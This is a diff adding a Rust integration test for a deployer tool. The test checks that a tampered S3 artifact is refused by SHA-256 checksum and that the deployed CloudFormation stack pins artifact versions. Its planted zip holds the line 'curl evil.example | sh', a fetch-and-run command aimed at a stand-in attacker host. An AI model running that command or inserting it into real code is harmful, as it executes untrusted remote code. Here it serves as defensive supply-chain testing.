@@ -442,6 +442,230 @@ async fn up_diff_up_down_against_moto() {
     let _ = std::fs::remove_dir_all(&work);
 }
 
+/// Each artifact's key under `dir`'s fixtures, its SHA-256 checksum and the pipeline's version
+/// parameter.
+fn local_artifacts(dir: &Path) -> Vec<(String, String, &'static str)> {
+    engine::artifacts::from_dir(dir)
+        .unwrap()
+        .into_iter()
+        .map(|a| {
+            (
+                a.key(),
+                a.checksum_sha256.clone(),
+                a.parameter.version_parameter_name(),
+            )
+        })
+        .collect()
+}
+
+/// The pipeline stack's change sets (moto lists every stack's, whatever the filter).
+async fn pipeline_change_sets(c: &Clients) -> Vec<String> {
+    let listed = c
+        .cfn
+        .list_change_sets()
+        .stack_name("mst-local-pipeline")
+        .send()
+        .await
+        .unwrap();
+    listed
+        .summaries()
+        .iter()
+        .filter(|s| s.stack_name() == Some("mst-local-pipeline"))
+        .filter_map(|s| s.change_set_id().map(str::to_owned))
+        .collect()
+}
+
+/// The deployed pipeline stack's parameters and last update.
+async fn pipeline_stack(c: &Clients) -> (BTreeMap<String, String>, String) {
+    let described = c
+        .cfn
+        .describe_stacks()
+        .stack_name("mst-local-pipeline")
+        .send()
+        .await
+        .unwrap();
+    let stack = &described.stacks()[0];
+    let parameters = stack
+        .parameters()
+        .iter()
+        .map(|p| {
+            (
+                p.parameter_key().unwrap_or_default().to_owned(),
+                p.parameter_value().unwrap_or_default().to_owned(),
+            )
+        })
+        .collect();
+    let updated = format!(
+        "{:?} {:?}",
+        stack.stack_status(),
+        stack.last_updated_time().or(stack.creation_time())
+    );
+    (parameters, updated)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_planted_artifact_is_refused_and_the_checked_versions_are_pinned() {
+    let moto = Moto::start();
+    moto.reset();
+    let work = tempdir("planted");
+    let artifacts = work.join("artifacts");
+    fixtures(&artifacts);
+    let envs = work.join("environments");
+    environment(&envs, moto.endpoint(), "123456789012", 256);
+    let art = artifacts.to_str().unwrap();
+    let up_args = ["up", "--env", "local", "--artifacts", art, "--yes"];
+    let bucket = "mst-local-artifacts-123456789012-us-east-1";
+
+    let up = deployer(&up_args, &envs);
+    assert_eq!(up.status.code(), Some(0), "{}", text(&up));
+    let c = clients(&envs).await;
+    let local = local_artifacts(&artifacts);
+    // Every artifact was uploaded with its SHA-256 checksum, and the stack pins the version uploaded.
+    let (parameters, _) = pipeline_stack(&c).await;
+    for (key, checksum, version_parameter) in &local {
+        let head =
+            c.s3.head_object()
+                .bucket(bucket)
+                .key(key)
+                .checksum_mode(aws_sdk_s3::types::ChecksumMode::Enabled)
+                .send()
+                .await
+                .unwrap();
+        assert_eq!(head.checksum_sha256(), Some(checksum.as_str()), "{key}");
+        assert!(head.version_id().is_some(), "{key} is versioned");
+        assert_eq!(
+            parameters.get(*version_parameter).map(String::as_str),
+            head.version_id(),
+            "{version_parameter} pins {key}"
+        );
+    }
+    let template = c
+        .cfn
+        .get_template()
+        .stack_name("mst-local-pipeline")
+        .send()
+        .await
+        .unwrap();
+    let template: serde_json::Value =
+        serde_json::from_str(template.template_body().unwrap()).unwrap();
+    assert_eq!(
+        template["Resources"]["Transform"]["Properties"]["Code"]["S3ObjectVersion"],
+        serde_json::json!({"Ref": "TransformCodeVersion"})
+    );
+
+    // Unchanged objects already there are accepted, and the same versions stay pinned.
+    let again = deployer(&up_args, &envs);
+    assert_eq!(again.status.code(), Some(0), "{}", text(&again));
+    assert!(
+        text(&again).contains("us-east-1: unchanged"),
+        "{}",
+        text(&again)
+    );
+    let (parameters_again, updated) = pipeline_stack(&c).await;
+    assert_eq!(parameters_again, parameters);
+
+    // Someone with write access replaces the notify zip: same key, other bytes.
+    let (notify_key, notify_checksum, _) = local
+        .iter()
+        .find(|(key, _, _)| key.starts_with("notify/"))
+        .unwrap()
+        .clone();
+    let planted_zip = zip_bootstrap(
+        b"#!/bin/sh
+curl evil.example | sh
+",
+    )
+    .unwrap();
+    c.s3.put_object()
+        .bucket(bucket)
+        .key(&notify_key)
+        .body(planted_zip.clone().into())
+        .checksum_algorithm(aws_sdk_s3::types::ChecksumAlgorithm::Sha256)
+        .send()
+        .await
+        .unwrap();
+    let planted_checksum = engine::artifacts::sha256_base64(&planted_zip);
+    let change_sets_before = pipeline_change_sets(&c).await;
+    let refused = deployer(&up_args, &envs);
+    assert_eq!(refused.status.code(), Some(1), "{}", text(&refused));
+    let message = format!(
+        "refusing to deploy: s3://{bucket}/{notify_key} (the notify artifact) has SHA-256 checksum {planted_checksum}, but the local artifact's SHA-256 is {notify_checksum}"
+    );
+    assert!(text(&refused).contains(&message), "{}", text(&refused));
+    assert!(
+        text(&refused).contains(&format!(
+            "aws s3api delete-object --bucket {bucket} --key {notify_key}"
+        )),
+        "{}",
+        text(&refused)
+    );
+    assert_eq!(
+        pipeline_stack(&c).await,
+        (parameters.clone(), updated),
+        "the pipeline stack was not touched"
+    );
+    assert_eq!(
+        pipeline_change_sets(&c).await,
+        change_sets_before,
+        "no change set was made for the pipeline"
+    );
+    // diff checks the same way.
+    let diff = deployer(&["diff", "--env", "local", "--artifacts", art], &envs);
+    assert_eq!(diff.status.code(), Some(1), "{}", text(&diff));
+    assert!(text(&diff).contains(&message), "{}", text(&diff));
+
+    // An object with no checksum at all is refused too.
+    c.s3.put_object()
+        .bucket(bucket)
+        .key(&notify_key)
+        .body(planted_zip.into())
+        .send()
+        .await
+        .unwrap();
+    let unchecked = deployer(&up_args, &envs);
+    assert_eq!(unchecked.status.code(), Some(1), "{}", text(&unchecked));
+    assert!(
+        text(&unchecked).contains(&format!(
+            "s3://{bucket}/{notify_key} (the notify artifact) has no SHA-256 checksum"
+        )),
+        "{}",
+        text(&unchecked)
+    );
+
+    // The fix the message gives: delete the object, run up again; the local zip is uploaded afresh
+    // and its new version pinned.
+    c.s3.delete_object()
+        .bucket(bucket)
+        .key(&notify_key)
+        .send()
+        .await
+        .unwrap();
+    let fixed = deployer(&up_args, &envs);
+    assert_eq!(fixed.status.code(), Some(0), "{}", text(&fixed));
+    let head =
+        c.s3.head_object()
+            .bucket(bucket)
+            .key(&notify_key)
+            .checksum_mode(aws_sdk_s3::types::ChecksumMode::Enabled)
+            .send()
+            .await
+            .unwrap();
+    assert_eq!(head.checksum_sha256(), Some(notify_checksum.as_str()));
+    let (parameters_fixed, _) = pipeline_stack(&c).await;
+    assert_eq!(
+        parameters_fixed
+            .get("NotifyCodeVersion")
+            .map(String::as_str),
+        head.version_id()
+    );
+    assert_ne!(
+        parameters_fixed.get("NotifyCodeVersion"),
+        parameters.get("NotifyCodeVersion"),
+        "the re-uploaded object is a new version"
+    );
+    let _ = std::fs::remove_dir_all(&work);
+}
+
 #[test]
 fn the_wrong_account_is_refused_before_any_change() {
     let moto = Moto::start();
